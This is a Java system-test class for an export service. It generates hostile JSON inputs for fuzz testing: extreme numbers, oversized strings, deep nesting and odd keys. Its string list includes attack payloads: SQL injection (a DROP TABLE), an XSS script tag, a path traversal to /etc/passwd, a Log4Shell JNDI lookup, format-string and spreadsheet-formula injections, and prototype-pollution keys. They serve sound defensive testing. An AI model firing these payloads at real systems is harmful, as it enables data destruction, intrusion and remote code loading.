package dev.exportflow.systemtests;

import java.util.List;
import java.util.Random;
import java.util.StringJoiner;

/**
 * JSON text and strings as a hostile client writes them: numeric extremes ({@code 1e1100000}, thousands of digits),
 * huge and strange strings, deep nesting, wrong types. Written as text, so that nothing is normalised on the way.
 */
final class HostileValues {

    private static final List<String> NUMBERS = List.of("0", "-0", "-1", "1", "10.5", "0.000001", "1e1100000", "-1e1100000",
            "1e999999999", "1e-999999999", "-1e999999999", "9e18", "9223372036854775808", "-9223372036854775809",
            "1.7976931348623157e309", "4.9e-325", "1E+2147483648", "12345678901234567890123456789012345678901234567890",
            "0.1e-2147483647", "1e-1100000", "100000000000000000000e-20", "2.5E+10");
    private static final List<String> STRINGS = List.of("", " ", "PAID", "paid", "NEW ", "orders", "customers", "csv", "xlsx",
            "jsonl", ";", ",", "\\t", "||", "Europe/Berlin", "Mars/Olympus", "UTC+25", "2024-01-01", "2024-02-30", "9999-12-31",
            "-999999999-01-01", "+1000000000-01-01", "2024-01-01T00:00:00Z", "1e1100000", "-1e999999999", "NaN", "Infinity",
            "0x7fffffff", "=HYPERLINK(\\\"http://x\\\")", "＝１＋１", "\\n=1+1", "' OR '1'='1", "'; drop table export_job; --",
            "\\u0000", "\\ud800", "\\uffff", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://x/a}", "%s%s%n",
            "\\u202e", "東京📦", "true", "null", "[]", "{}");
    private static final List<String> KEYS = List.of("status", "min_total", "from_date", "to_date", "tenant_id",
            "requester_id", "country", "", "__proto__", "constructor", "status ", "STATUS", "min_total\\u0000");

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    /** Any JSON value, most of them scalars. */
    String value(int depth) {
        int pick = random.nextInt(100);
        if (pick < 30) {
            return number();
        } else if (pick < 65) {
            return string();
        } else if (pick < 72) {
            return random.nextBoolean() ? "true" : "false";
        } else if (pick < 77) {
            return "null";
        } else if (pick < 82) {
            return "NaN";
        } else if (pick < 90 && depth < 3) {
            return array(depth + 1, random.nextInt(random.nextInt(10) < 9 ? 5 : 5000));
        } else if (depth < 3) {
            return object(depth + 1);
        }
        return number();
    }

    String number() {
        int pick = random.nextInt(10);
        if (pick < 6) {
            return NUMBERS.get(random.nextInt(NUMBERS.size()));
        } else if (pick < 8) {
            return Long.toString(random.nextLong());
        } else if (pick < 9) {
            return digits(1 + random.nextInt(20_000)) + (random.nextBoolean() ? "." + digits(1 + random.nextInt(5_000)) : "");
        }
        return (random.nextBoolean() ? "-" : "") + digits(1 + random.nextInt(3)) + "e" + (random.nextBoolean() ? "-" : "")
                + random.nextInt(Integer.MAX_VALUE);
    }

    /** A JSON string literal, quotes included. */
    String string() {
        int pick = random.nextInt(10);
        if (pick < 6) {
            return "\"" + STRINGS.get(random.nextInt(STRINGS.size())) + "\"";
        } else if (pick < 8) {
            return "\"" + text(1 + random.nextInt(200)) + "\"";
        } else if (pick < 9) {
            return "\"" + "x".repeat(1_000 + random.nextInt(70_000)) + "\"";
        }
        return "\"" + number() + "\"";
    }

    String array(int depth, int size) {
        StringJoiner items = new StringJoiner(",", "[", "]");
        for (int i = 0; i < size; i++) {
            items.add(size > 50 ? number() : value(depth));
        }
        return items.toString();
    }

    String object(int depth) {
        StringJoiner members = new StringJoiner(",", "{", "}");
        int size = random.nextInt(6);
        for (int i = 0; i < size; i++) {
            members.add(key() + ":" + value(depth));
        }
        return members.toString();
    }

    /** A parameter name, usually one the datasets know. */
    String key() {
        return "\"" + (random.nextInt(10) < 8 ? KEYS.get(random.nextInt(KEYS.size())) : text(1 + random.nextInt(30))) + "\"";
    }

    /** Arrays or objects nested {@code depth} deep. */
    String deep(int depth) {
        boolean arrays = random.nextBoolean();
        return (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
    }

    /** Printable text with escapes, quotes and characters from several scripts, safe inside a JSON string. */
    String text(int length) {
        StringBuilder text = new StringBuilder(length);
        String alphabet = "abcXYZ019 -_.:/=+@#%&*()[]{}<>|~`^'!?ßéü東京Ω";
        for (int i = 0; i < length; i++) {
            int pick = random.nextInt(20);
            if (pick == 0) {
                text.append("\\\"");
            } else if (pick == 1) {
                text.append("\\\\");
            } else if (pick == 2) {
                text.append("\\u").append(String.format("%04x", random.nextInt(0x10000)));
            } else {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
        }
        return text.toString();
    }

    String digits(int count) {
        StringBuilder digits = new StringBuilder(count);
        digits.append((char) ('1' + random.nextInt(9)));
        for (int i = 1; i < count; i++) {
            digits.append((char) ('0' + random.nextInt(10)));
        }
        return digits.toString();
    }
}
